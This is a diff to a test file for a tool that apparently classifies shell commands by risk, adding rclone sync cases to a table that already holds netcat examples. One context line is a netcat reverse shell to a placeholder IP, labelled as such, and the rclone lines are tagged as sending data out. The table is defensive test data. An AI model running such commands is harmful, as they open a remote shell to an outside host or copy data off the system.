@@ -6,6 +6,8 @@ from spawngate.command.tools.network import READERS
 from tests.command.told import acts, tried
 
 CASES: tuple[tuple[str, tuple[str, ...]], ...] = (
+    ("rclone sync a:x b:x", ("cloud-copy-between", "cloud-copy-out", "remote-copy", "send", "send-file")),
+    ("rclone sync a:x a:y", ("cloud-copy-out", "remote-copy", "send", "send-file")),
     ("nc -e /bin/sh 203.0.113.7 99", ("connect", "interactive-shell", "reverse-shell", "runs-input")),
     ("nc -lvp 99", ("listen", "listen-all")),
     ("nc -z localhost 80", ("list-network",)),
